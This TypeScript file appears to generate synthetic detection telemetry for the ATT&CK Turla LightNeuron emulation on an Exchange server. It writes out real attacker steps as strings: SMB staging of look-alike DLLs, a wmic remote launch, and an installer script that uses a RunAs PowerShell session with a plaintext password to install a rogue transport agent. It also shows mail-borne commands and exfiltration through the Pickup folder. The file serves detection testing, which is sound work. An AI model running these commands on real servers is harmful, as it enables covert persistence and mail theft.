// The LightNeuron intrusion as the CTID / ATT&CK Evaluations Turla ("Snake") emulation runs it
// (DOMAIN §3.2, steps 18–19), on EXCH01, staged from the admin workstation ADM01: the tools arrive
// on the workstation, are copied over SMB into the Exchange tree, a remote WMI call runs the
// installer script, which registers a PowerShell session configuration running as an admin and,
// through it, installs and enables the look-alike "Connection Filtering Agent" and restarts
// transport; EdgeTransport.exe loads the agent and its companion DLL; then mail carries commands
// (ipconfig /all) whose replies leave through the Pickup folder, and the collected mail is
// exfiltrated the next morning.
import { ACCOUNTS, DLLS, EX_BIN, FILES, NETWORK_SERVICE_PROFILE, PICKUP, SYS32 } from './org.js';
import { DAY, HOUR, MIN } from './machine.js';
import { UPTIME, type ContextDef, type ScenarioPlan, type StageDef, type World } from './world.js';

export const LIGHTNEURON_START = Date.UTC(2026, 10, 10, 8, 0, 0);

const AGENT_NAME = 'Connection Filtering Agent';
const FACTORY = 'Microsoft.Exchange.Transport.Agent.ConnectionFiltering.ConnectionFilteringAgentFactory';
const INSTALL_SCRIPT = `${SYS32}\\msiex.ps1`;
const INSTALL_LOG = 'C:\\Windows\\Temp\\msiexinstallation.log';
const PLUGIN_KEY = 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WSMAN\\Plugin\\ConnectionFiltering';
const AGENT_LOG = `${NETWORK_SERVICE_PROFILE}\\AppData\\Roaming\\Microsoft\\Windows\\msxfer.dat`;
const COLLECTION_LOG = `${NETWORK_SERVICE_PROFILE}\\AppData\\Local\\Temp\\tmp4C4E`;
const RULES_FILE = `${NETWORK_SERVICE_PROFILE}\\AppData\\Local\\Temp\\msmdat.xml`;

export const LIGHTNEURON_STAGES: StageDef[] = [
  { id: 'ln-01-tools-on-workstation', expectedMinLevel: 'medium', description: 'ADM01: the implant inside the browser writes the agent DLL, companion DLL, installer script, rules and config files into C:\\Windows\\System32 under innocuous names (mtxconf.dll, mtxcli.dll, msiex.ps1, wdr.rules.xml, perfe009.dat) (18.1)' },
  { id: 'ln-02-smb-copy-commands', expectedMinLevel: 'high', description: 'ADM01: cmd.exe copies each file to \\\\EXCH01\\C$ into the Exchange tree (TransportRoles\\agents\\Hygiene, V15\\bin), System32 and the NetworkService Temp folder, one a minute (18.2)' },
  { id: 'ln-03-files-arrive-over-smb', expectedMinLevel: 'high', description: 'EXCH01: the copies arrive over SMB (written by System, Defender RequestProtocol SMB from ADM01 as a.vogel-adm): the look-alike agent DLL in TransportRoles\\agents\\Hygiene, exdbdata.dll and winmail.dat in V15\\bin, msmdat.xml in the NetworkService Temp folder, msiex.ps1 in System32 (18.2)' },
  { id: 'ln-04-wmic-remote-launch', expectedMinLevel: 'high', description: 'ADM01: wmic /node:EXCH01 process call create "cmd.exe /c powershell.exe -File C:\\Windows\\System32\\msiex.ps1 > …" (18.3)' },
  { id: 'ln-05-wmiprvse-runs-installer', expectedMinLevel: 'high', description: 'EXCH01: WmiPrvSE.exe starts cmd.exe, which starts powershell.exe -File C:\\Windows\\System32\\msiex.ps1 and writes C:\\Windows\\Temp\\msiexinstallation.log (18.3)' },
  { id: 'ln-06-installer-script-block', expectedMinLevel: 'high', description: 'EXCH01: script block logging records msiex.ps1: plaintext credentials, Register-PSSessionConfiguration -RunAsCredential, Invoke-Command with Install-TransportAgent / Enable-TransportAgent / Restart-Service MSExchangeTransport (18.4)' },
  { id: 'ln-07-session-configuration', expectedMinLevel: 'medium', description: 'EXCH01: Register-PSSessionConfiguration -Name ConnectionFiltering -RunAsCredential: the WSMan plugin key with RunAsUser written by the WinRM service, WinRM restarted; the key deleted again by Unregister-PSSessionConfiguration (18.4)' },
  { id: 'ln-08-agent-registration', expectedMinLevel: 'high', description: 'EXCH01: wsmprovhost.exe (running as the RunAs account) executes Add-PSSnapin, Install-TransportAgent -Name "Connection Filtering Agent" …, Enable-TransportAgent and Restart-Service: the remote script block (4104) and module logging (4103); no MSExchange Management event, as the local snap-in does not log successes by default (18.4)' },
  { id: 'ln-09-agent-dll-loaded-by-installer', expectedMinLevel: 'high', description: 'EXCH01: Install-TransportAgent loads the unsigned look-alike agent DLL into wsmprovhost.exe (18.4)' },
  { id: 'ln-10-agents-config-rewritten', expectedMinLevel: 'medium', description: 'EXCH01: wsmprovhost.exe rewrites TransportRoles\\Shared\\agents.config twice (install, enable) (18.4)' },
  { id: 'ln-11-transport-loads-agent', expectedMinLevel: 'high', description: 'EXCH01: the restarted EdgeTransport.exe loads the unsigned look-alike agent from TransportRoles\\agents\\Hygiene and the unsigned native companion V15\\bin\\exdbdata.dll (18.5)' },
  { id: 'ln-12-workstation-cleanup', expectedMinLevel: 'medium', description: 'ADM01: cmd.exe /c del /Q of the five staging files in C:\\Windows\\System32 (18.6)' },
  { id: 'ln-13-agent-log', expectedMinLevel: 'high', description: 'EXCH01: EdgeTransport.exe (NETWORK SERVICE) creates and appends to its log msxfer.dat in the NetworkService profile (Roaming\\Microsoft\\Windows) as mail is processed (19.1–19.3)' },
  { id: 'ln-14-c2-command-execution', expectedMinLevel: 'critical', description: 'EXCH01: a command mailed to the agent runs: EdgeTransport.exe → cmd.exe /c cmd /C ipconfig /all → cmd.exe → ipconfig.exe (19.1)' },
  { id: 'ln-15-c2-reply-via-pickup', expectedMinLevel: 'high', description: 'EXCH01: EdgeTransport.exe writes the reply mail<tick>.eml (stego JPG attachment) into TransportRoles\\Pickup (19.1)' },
  { id: 'ln-16-mail-collection', expectedMinLevel: 'high', description: 'EXCH01: EdgeTransport.exe creates the collection log tmp4C4E in the NetworkService Temp folder and appends every matching mail to it (19.2)' },
  { id: 'ln-17-exfiltration-reply', expectedMinLevel: 'high', description: 'EXCH01: next morning, task "3 | 0": EdgeTransport.exe writes a large reply mail<tick>.eml carrying the collection log into TransportRoles\\Pickup (19.3)' },
];

export const LIGHTNEURON_CONTEXT: ContextDef[] = [
  { id: 'ln-lateral-logons', description: 'EXCH01: network logons of a.vogel-adm from ADM01 for the SMB copies and the WMI call' },
  { id: 'ln-operator-shell', description: 'ADM01: the browser the implant runs in, and console hosts of the operator\'s commands' },
  { id: 'ln-transport-restart', description: 'EXCH01: Restart-Service MSExchangeTransport from the installer: service stopped and running (System 7036), new MSExchangeTransport.exe and EdgeTransport.exe, Microsoft agents loaded, the Content Filter wrapper started' },
  { id: 'ln-agent-slow', description: 'EXCH01: MSExchange Extensibility 1050, the look-alike agent took long on OnEndOfData while decoding a command attachment' },
];

export function installScript(password: string): string {
  return [
    '$username = "CORP\\a.vogel-adm"',
    `$password = ConvertTo-SecureString "${password}" -AsPlainText -Force`,
    '$credential = New-Object System.Management.Automation.PSCredential($username, $password)',
    'Register-PSSessionConfiguration -Name ConnectionFiltering -RunAsCredential $credential -Force | Out-Null',
    'Invoke-Command -ComputerName localhost -ConfigurationName ConnectionFiltering -ScriptBlock {',
    innerBlock().split('\r\n').map((l) => `    ${l}`).join('\r\n'),
    '}',
    'Unregister-PSSessionConfiguration -Name ConnectionFiltering -Force',
  ].join('\r\n');
}

function innerBlock(): string {
  return [
    'Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn',
    `Install-TransportAgent -Name "${AGENT_NAME}" -AssemblyPath "${DLLS.lnAgent.path}" -TransportAgentFactory ${FACTORY}`,
    `Enable-TransportAgent -Identity "${AGENT_NAME}"`,
    'Restart-Service MSExchangeTransport',
  ].join('\r\n');
}

export function lightneuron(w: World, opts: { cmdletSuccessLogging: boolean }): ScenarioPlan {
  const { tl, rng, exch01: ex, adm01: ws } = w;
  const host = ex.host;
  const op = ACCOUNTS.avogel;
  const from = LIGHTNEURON_START, to = LIGHTNEURON_START + DAY + 4 * HOUR;
  const sec = (a: number, b: number) => rng.int(a * 1000, b * 1000);
  let t = LIGHTNEURON_START + 2 * HOUR + rng.int(0, 40) * MIN + sec(0, 59);

  // The operator's foothold: a.vogel-adm's browser on ADM01, where the implant lives.
  const browser = tl.context('ln-operator-shell', () => {
    const desk = ws.desktop(t - 95 * MIN, op);
    return tl.spawn(t - 80 * MIN, desk, FILES.firefox, `"${FILES.firefox.path}"`, { cwd: 'C:\\Program Files\\Mozilla Firefox\\' });
  });

  // 18.1 — the tools land in System32 on the workstation
  const staged: [string, string, number][] = [
    ['mtxconf.dll', DLLS.lnAgent.path, DLLS.lnAgent.size],
    ['mtxcli.dll', DLLS.lnCompanion.path, DLLS.lnCompanion.size],
    ['msiex.ps1', INSTALL_SCRIPT, 1184],
    ['wdr.rules.xml', RULES_FILE, 922],
    ['perfe009.dat', `${EX_BIN}\\winmail.dat`, 214],
  ];
  tl.stage('ln-01-tools-on-workstation', () => {
    for (const [name, , size] of staged) { t += sec(8, 40); tl.fileWrite(t, browser, `${SYS32}\\${name}`, { size }); }
  });

  // 18.2 — copied to EXCH01 over SMB, a minute apart
  t += sec(120, 400);
  for (const [i, [name, target, size]] of staged.entries()) {
    const unc = `\\\\EXCH01\\C$${target.slice(2)}`;
    const cmd = tl.stage('ln-02-smb-copy-commands', () => tl.spawn(t, browser, FILES.cmd, `"C:\\Windows\\system32\\cmd.exe" /c copy /Y C:\\Windows\\System32\\${name} "${unc}"`, { cwd: 'C:\\Windows\\system32\\' }));
    tl.context('ln-operator-shell', () => tl.spawn(t + 12, cmd, FILES.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'));
    if (i === 0) tl.context('ln-lateral-logons', () => tl.logon(t + sec(0, 1), host, op, 3, { from: ws.host }));
    tl.stage('ln-03-files-arrive-over-smb', () => tl.fileWrite(t + sec(1, 3), tl.system(host), target, {
      size, smb: { from: ws.host, account: op }, ...(target === DLLS.lnAgent.path ? { file: DLLS.lnAgent } : target === DLLS.lnCompanion.path ? { file: DLLS.lnCompanion } : {}),
    }));
    t += sec(55, 70);
  }

  // 18.3 — remote WMI process creation
  t += sec(60, 240);
  const remote = `cmd.exe /c powershell.exe -File ${INSTALL_SCRIPT} > ${INSTALL_LOG} 2>&1`;
  tl.stage('ln-04-wmic-remote-launch', () => {
    const c = tl.spawn(t, browser, FILES.cmd, `"C:\\Windows\\system32\\cmd.exe" /c wmic.exe /node:EXCH01 /privileges:enable process call create "${remote}"`, { cwd: 'C:\\Windows\\system32\\' });
    tl.spawn(t + sec(0, 1), c, FILES.wmic, `wmic.exe  /node:EXCH01 /privileges:enable process call create "${remote}"`);
  });
  t += sec(1, 3);
  const wmiLogon = tl.context('ln-lateral-logons', () => tl.logon(t, host, op, 3, { from: ws.host }));
  const [psInstaller, cmdRemote] = tl.stage('ln-05-wmiprvse-runs-installer', () => {
    const c = tl.spawn(t + sec(0, 1), ex.wmiprvse, FILES.cmd, remote, { user: op, logonId: wmiLogon, integrity: 'High', elevation: 'Full', session: 0, cwd: 'C:\\Windows\\system32\\' });
    tl.fileWrite(t + sec(1, 2), c, INSTALL_LOG, { size: 0 });
    const ps = tl.spawn(t + sec(2, 3), c, FILES.powershell, `powershell.exe  -File ${INSTALL_SCRIPT}`);
    return [ps, c] as const;
  });
  tl.context('ln-operator-shell', () => tl.spawn(t + sec(1, 2), cmdRemote, FILES.conhost, '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'));
  t += sec(4, 6);

  // 18.4 — the installer script
  tl.stage('ln-06-installer-script-block', () => tl.scriptBlock(t, psInstaller, installScript(`Wint3r-Harb0ur!${rng.int(10, 99)}`), INSTALL_SCRIPT));
  const consoleRunspace = rng.guid(), consoleHostId = rng.guid();
  t += sec(1, 2);
  const winrm = tl.stage('ln-07-session-configuration', () => {
    tl.pipeline(t, psInstaller, { name: 'Register-PSSessionConfiguration', type: 'Function', params: [['Name', 'ConnectionFiltering'], ['RunAsCredential', 'System.Management.Automation.PSCredential'], ['Force', 'True']], host: 'ConsoleHost', runspace: consoleRunspace, hostId: consoleHostId, pipelineId: 1, sequence: 1, script: INSTALL_SCRIPT });
    tl.registrySet(t + sec(1, 2), ex.svcWinRM, PLUGIN_KEY, 'ConfigXML', 'String',
      '<PlugInConfiguration xmlns="http://schemas.microsoft.com/wbem/wsman/1/config/PluginConfiguration" Name="ConnectionFiltering" Filename="%windir%\\system32\\pwrshplugin.dll" SDKVersion="2" XmlRenderingType="text" Enabled="True" Architecture="64" UseSharedProcess="false" ProcessIdleTimeoutSec="0" RunAsUser="CORP\\a.vogel-adm" RunAsPassword="01000000d08c9ddf0115d1118c7a00c04fc297eb" OutputBufferingMode="Block"><InitializationParameters><Param Name="PSVersion" Value="5.1" /></InitializationParameters><Resources><Resource ResourceUri="http://schemas.microsoft.com/powershell/ConnectionFiltering" SupportsOptions="true" ExactMatch="true"><Security Uri="http://schemas.microsoft.com/powershell/ConnectionFiltering" ExactMatch="true" Sddl="O:NSG:BAD:P(A;;GA;;;BA)(A;;GA;;;IU)S:P(AU;FA;GA;;;WD)(AU;SA;GXGW;;;WD)" /></Resource></Resources><Quotas MaxMemoryPerShellMB="1024" /></PlugInConfiguration>');
    tl.service(t + sec(3, 4), host, 'WinRM', 'stopped');
    tl.service(t + sec(6, 8), host, 'WinRM', 'running');
    return tl.spawn(t + sec(5, 6), ex.services, FILES.svchost, 'C:\\Windows\\System32\\svchost.exe -k NetworkService -p -s WinRM', { user: ACCOUNTS.networkService, integrity: 'System', elevation: 'Full', session: 0 });
  });
  t += sec(10, 14);

  // Invoke-Command into the RunAs session: the cmdlets run in wsmprovhost.exe as a.vogel-adm
  const runAsLogon = tl.context('ln-lateral-logons', () => tl.logon(t, host, op, 5));
  let wsm = psInstaller;
  tl.stage('ln-08-agent-registration', () => {
    tl.pipeline(t, psInstaller, { name: 'Invoke-Command', params: [['ComputerName', 'localhost'], ['ConfigurationName', 'ConnectionFiltering'], ['ScriptBlock', innerBlock()]], host: 'ConsoleHost', runspace: consoleRunspace, hostId: consoleHostId, pipelineId: 1, sequence: 2, script: INSTALL_SCRIPT });
    wsm = tl.spawn(t + sec(1, 2), ex.svcDcom, FILES.wsmprovhost, 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', { user: op, logonId: runAsLogon, integrity: 'High', elevation: 'Full', session: 0 });
    tl.scriptBlock(t + sec(3, 4), wsm, innerBlock());
  });
  const rs = rng.guid(), hid = rng.guid();
  t += sec(4, 6);
  let seq = 1;
  const remoteCmd = (name: string, params: [string, string][]) => tl.pipeline(t, wsm, { name, params, host: 'ServerRemoteHost', runspace: rs, hostId: hid, pipelineId: 1, sequence: seq++ });
  tl.stage('ln-08-agent-registration', () => remoteCmd('Add-PSSnapin', [['Name', 'Microsoft.Exchange.Management.PowerShell.SnapIn']]));
  t += sec(6, 12);
  tl.stage('ln-09-agent-dll-loaded-by-installer', () => tl.imageLoad(t, wsm, DLLS.lnAgent));
  t += sec(1, 2);
  tl.stage('ln-10-agents-config-rewritten', () => tl.agentsConfigRewrite(t, wsm, 4816));
  const succeeded = (cmdlet: string, params: string) => {
    if (!opts.cmdletSuccessLogging) return;
    tl.cmdletLog(t + sec(0, 1), host, 3, {
      cmdlet, params, caller: `corp.example/Admins/${op.name}`, sid: op.sid, application: 'Local-PowerShell-Unknown', hostProcess: `${wsm.pid} wsmprovhost`,
      thread: rng.int(5, 40), elapsedMs: rng.int(300, 3000), dc: 'DC01.corp.example', outputCount: 1, activityId: rng.guid(),
    });
  };
  tl.stage('ln-08-agent-registration', () => {
    remoteCmd('Install-TransportAgent', [['Name', AGENT_NAME], ['AssemblyPath', DLLS.lnAgent.path], ['TransportAgentFactory', FACTORY]]);
    succeeded('Install-TransportAgent', `-Name "${AGENT_NAME}" -AssemblyPath "${DLLS.lnAgent.path}" -TransportAgentFactory "${FACTORY}"`);
  });
  t += sec(2, 5);
  tl.stage('ln-10-agents-config-rewritten', () => tl.agentsConfigRewrite(t, wsm, 4816));
  tl.stage('ln-08-agent-registration', () => {
    remoteCmd('Enable-TransportAgent', [['Identity', AGENT_NAME]]);
    succeeded('Enable-TransportAgent', `-Identity "${AGENT_NAME}"`);
  });
  t += sec(1, 3);
  tl.stage('ln-08-agent-registration', () => remoteCmd('Restart-Service', [['Name', 'MSExchangeTransport']]));

  // 18.5 — transport restarts and loads the agent; the companion DLL comes with the first P/Invoke
  t += sec(1, 2);
  // the look-alike is last in agents.config, so EdgeTransport.exe loads it after Microsoft's agents
  t = tl.context('ln-transport-restart', () => ex.restartTransport(t, {
    afterAgents: (at, e) => { tl.stage('ln-11-transport-loads-agent', () => tl.imageLoad(at, e, DLLS.lnAgent)); return at; },
  }));
  const edge = ex.edgeTransport!;
  ex.agents.push(DLLS.lnAgent);
  t += sec(2, 5);
  tl.context('ln-lateral-logons', () => tl.logon(t, host, op, 3, { from: ws.host }));
  t += sec(2, 8);
  tl.stage('ln-07-session-configuration', () => {
    tl.pipeline(t, psInstaller, { name: 'Unregister-PSSessionConfiguration', type: 'Function', params: [['Name', 'ConnectionFiltering'], ['Force', 'True']], host: 'ConsoleHost', runspace: consoleRunspace, hostId: consoleHostId, pipelineId: 1, sequence: 3, script: INSTALL_SCRIPT });
    tl.registryDeleteKey(t + sec(1, 2), winrm, PLUGIN_KEY);
    tl.service(t + sec(2, 3), host, 'WinRM', 'stopped');
    tl.service(t + sec(5, 7), host, 'WinRM', 'running');
  });

  // First mail through the agent: the companion DLL, the agent log
  let m = t + sec(20, 90);
  tl.stage('ln-11-transport-loads-agent', () => tl.imageLoad(m, edge, DLLS.lnCompanion));
  tl.stage('ln-13-agent-log', () => tl.fileWrite(m + sec(0, 1), edge, AGENT_LOG, { size: 96 }));
  let agentLog = 96;
  const appendAgentLog = (at: number) => { agentLog += rng.int(60, 240); tl.fileWrite(at, edge, AGENT_LOG, { modified: true, size: agentLog }); };

  // 18.6 — workstation cleanup, ten minutes later
  const cleanupAt = t + sec(480, 720);
  tl.stage('ln-12-workstation-cleanup', () => {
    const c = tl.spawn(cleanupAt, browser, FILES.cmd, `"C:\\Windows\\system32\\cmd.exe" /c del /Q ${staged.map(([n]) => `C:\\Windows\\System32\\${n}`).join(' ')}`, { cwd: 'C:\\Windows\\system32\\' });
    for (const [name, , size] of staged) tl.fileDelete(cleanupAt + sec(0, 1), c, `${SYS32}\\${name}`, { path: `${SYS32}\\${name}`, fileVersion: '-', description: '-', product: '-', company: '-', originalFileName: '-', signer: null, size });
  });

  // 19.2 — every mail for corp.example recipients goes to the collection log, through the afternoon and the night
  m += sec(60, 300);
  let collected = 0;
  tl.stage('ln-16-mail-collection', () => { collected = rng.int(3000, 9000); tl.fileWrite(m, edge, COLLECTION_LOG, { size: collected }); });
  const exfilAt = LIGHTNEURON_START + DAY + HOUR + rng.int(5, 40) * MIN + sec(0, 59);
  const c2At = LIGHTNEURON_START + 6 * HOUR + rng.int(20, 50) * MIN + sec(0, 59);
  for (let at = m + rng.int(8, 40) * MIN; at < exfilAt; at += rng.int(12, 75) * MIN) {
    const when = at;
    tl.stage('ln-16-mail-collection', () => { collected += rng.int(2000, 40000); tl.fileWrite(when, edge, COLLECTION_LOG, { modified: true, size: collected }); });
  }

  // 19.1 — the command mail: agent log, nested cmd running ipconfig /all, the reply in Pickup
  const tick = (at: number) => at - (LIGHTNEURON_START - UPTIME);
  t = c2At;
  tl.stage('ln-13-agent-log', () => appendAgentLog(t));
  tl.context('ln-agent-slow', () => tl.extensibility(t + sec(5, 9), host, 1050, [AGENT_NAME, 'OnEndOfData', String(rng.int(5200, 9800)), `<${rng.hex(8)}.${rng.hex(4)}@mail.innovationmail.net>`]));
  tl.stage('ln-14-c2-command-execution', () => {
    const c1 = tl.spawn(t + sec(1, 2), edge, FILES.cmd, 'C:\\Windows\\system32\\cmd.exe /c cmd /C ipconfig /all', { cwd: `${EX_BIN}\\` });
    const c2 = tl.spawn(t + sec(2, 3), c1, FILES.cmd, 'cmd  /C ipconfig /all');
    tl.spawn(t + sec(3, 4), c2, FILES.ipconfig, 'ipconfig  /all');
    return c1;
  });
  t += sec(5, 9);
  tl.stage('ln-13-agent-log', () => appendAgentLog(t));
  t += sec(1, 3);
  tl.stage('ln-15-c2-reply-via-pickup', () => tl.fileWrite(t, edge, `${PICKUP}\\mail${tick(t) >>> 0}.eml`, { size: rng.int(60_000, 140_000) }));

  // 19.3 — exfiltration of the collection log the next morning
  t = exfilAt;
  tl.stage('ln-13-agent-log', () => appendAgentLog(t));
  t += sec(3, 8);
  tl.stage('ln-17-exfiltration-reply', () => tl.fileWrite(t, edge, `${PICKUP}\\mail${tick(t) >>> 0}.eml`, { size: Math.round(collected * 1.4) + rng.int(80_000, 160_000) }));
  tl.stage('ln-13-agent-log', () => appendAgentLog(t + sec(1, 2)));

  // background activity, generated last so it sees which processes ran when
  ex.background(from, to, 6);
  ws.background(from, to, 3);

  return {
    description: 'LightNeuron (CTID Turla emulation, DOMAIN §3.2): staging over SMB from ADM01, remote WMI, installer script with a RunAs session configuration, look-alike "Connection Filtering Agent" on EXCH01, C2 by mail (ipconfig /all), collection and exfiltration through the Pickup folder',
    hosts: [ex.host, ws.host],
    window: { from, to },
    stages: LIGHTNEURON_STAGES,
    context: LIGHTNEURON_CONTEXT,
  };
}
